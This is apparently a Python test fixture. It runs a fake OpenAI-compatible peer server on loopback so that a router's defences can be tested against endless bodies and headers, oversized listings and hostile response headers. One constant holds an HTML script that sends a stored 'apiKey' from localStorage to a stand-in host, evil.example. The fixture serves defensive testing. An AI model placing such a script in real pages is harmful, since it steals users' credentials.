"""A peer that misbehaves on request: a real HTTP server on loopback (the standard library's)
that a router lists and relays to like any OpenAI-compatible server (docs/scaling.md).

What it answers depends on the path and the model asked for:

- ``GET /v1/models`` lists ``names``; under ``/huge`` the listing is padded past 8 MiB.
- ``POST`` for model ``endless-refusal``: a 401 whose body never ends; ``endless-answer``: a 200
  whose body never ends; ``endless-header-line``:
  a head with one header line that never ends; ``endless-header-lines``: header lines without
  end. Each stops once the router closes the connection (or after ``ENDLESS_BYTES``), and
  records in ``sent`` how much it managed to write.
- model ``page`` (a ``POST``'s, or a ``GET``'s ``?model=``): a web page with a script, as
  ``text/html``, that would run on the router's origin if relayed as it is.
- any other ``POST``: a chat completion naming the model, with headers a peer must not get to
  set on the router's origin (``Set-Cookie``...) beside ones a client may use; with
  ``"stream": true``, ``STREAM`` as an SSE answer.

Every request's headers are kept in ``requests``.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

from tests.support.local_server import serving

__all__ = ["ENDLESS_BYTES", "PAGE", "PAGE_MODEL", "STREAM", "FakePeer", "running_fake_peer"]

ENDLESS_BYTES = 256 << 20
_PIECE = 64 << 10
# Headers a peer answers with that must not reach a client of the router, and one that may.
HOSTILE_HEADERS = {
    "Set-Cookie": "session=from-the-peer; Path=/",
    "Clear-Site-Data": '"*"',
    "Strict-Transport-Security": "max-age=31536000",
    "Location": "https://peer.example/elsewhere",
}
KEPT_HEADERS = {"X-Ratelimit-Remaining-Requests": "99", "Retry-After": "3"}
PAGE_MODEL = "page"
PAGE = b"<!doctype html><script>fetch('//evil.example/?k='+localStorage.getItem('apiKey'))</script>"
STREAM = (
    b'data: {"object":"chat.completion.chunk","choices":[{"index":0,'
    b'"delta":{"content":"from the fake peer"},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'
)


class FakePeer:
    def __init__(self, names: Sequence[str]) -> None:
        self.names = list(names)
        self.requests: list[tuple[str, str, dict[str, str]]] = []  # method, path, headers
        self.sent: dict[str, int] = {}  # bytes written by each endless answer, once it stopped
        self.stopped = threading.Condition()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"

    def wait_sent(self, mode: str, timeout: float = 120.0) -> int:
        with self.stopped:
            assert self.stopped.wait_for(lambda: mode in self.sent, timeout), f"{mode} never ended"
        return self.sent[mode]

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        peer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                peer.requests.append(("GET", self.path, _lowered(self.headers.items())))
                if parse_qs(urlsplit(self.path).query).get("model") == [PAGE_MODEL]:
                    self._send(200, "text/html; charset=utf-8", PAGE)
                    return
                if not self.path.endswith("/v1/models"):
                    self._json(404, {"error": {"code": 404, "message": "no such route"}})
                    return
                pad = "x" * 1000 if self.path.startswith("/huge/") else ""
                count = 9000 if pad else len(peer.names)
                names = [f"{pad}{i}" for i in range(count)] if pad else peer.names
                self._json(200, {"object": "list", "data": [{"id": name} for name in names]})

            def do_POST(self) -> None:
                peer.requests.append(("POST", self.path, _lowered(self.headers.items())))
                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
                request = json.loads(body or b"{}")
                model = str(request.get("model", ""))
                if model == PAGE_MODEL:
                    self._send(200, "text/html; charset=utf-8", PAGE)
                    return
                if request.get("stream"):
                    self._send(200, "text/event-stream", STREAM)
                    return
                if model.startswith("endless-"):
                    self.close_connection = True
                    self._endless(model)
                    return
                answer = {
                    "id": "chatcmpl-fake",
                    "object": "chat.completion",
                    "created": 0,
                    "model": model,
                    "choices": [
                        {
                            "index": 0,
                            "message": {"role": "assistant", "content": "from the fake peer"},
                            "finish_reason": "stop",
                        }
                    ],
                }
                self._json(200, answer, {**HOSTILE_HEADERS, **KEPT_HEADERS})

            def _json(
                self, status: int, document: Any, extra: dict[str, str] | None = None
            ) -> None:
                self._send(status, "application/json", json.dumps(document).encode(), extra)

            def _send(
                self, status: int, media: str, raw: bytes, extra: dict[str, str] | None = None
            ) -> None:
                self.send_response(status)
                self.send_header("Content-Type", media)
                self.send_header("Content-Length", str(len(raw)))
                for name, value in (extra or {}).items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(raw)

            def _endless(self, mode: str) -> None:
                if mode == "endless-refusal":  # a close-delimited body: no length announced
                    start = b"HTTP/1.1 401 Unauthorized\r\nContent-Type: text/plain\r\n\r\n"
                    piece = b"refused " * (_PIECE // 8)
                elif mode == "endless-answer":  # the same, as a 200 JSON answer
                    start = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n"
                    piece = b" " * _PIECE
                elif mode == "endless-header-line":
                    start, piece = b"HTTP/1.1 200 OK\r\nX-Big: ", b"a" * _PIECE
                else:
                    start = b"HTTP/1.1 200 OK\r\n"
                    piece = b"".join(b"X-Pad-%d: %s\r\n" % (i, b"a" * 54) for i in range(1024))
                sent = 0
                try:
                    self.wfile.write(start)
                    while sent < ENDLESS_BYTES:
                        self.wfile.write(piece)
                        sent += len(piece)
                except OSError:
                    pass  # the router closed the connection: what this measures
                with peer.stopped:
                    peer.sent[mode] = sent
                    peer.stopped.notify_all()

        return Handler


def _lowered(items: Iterator[tuple[str, str]] | Any) -> dict[str, str]:
    return {name.lower(): value for name, value in items}


@contextmanager
def running_fake_peer(names: Sequence[str]) -> Iterator[FakePeer]:
    peer = FakePeer(names)
    with serving(peer._server):
        yield peer
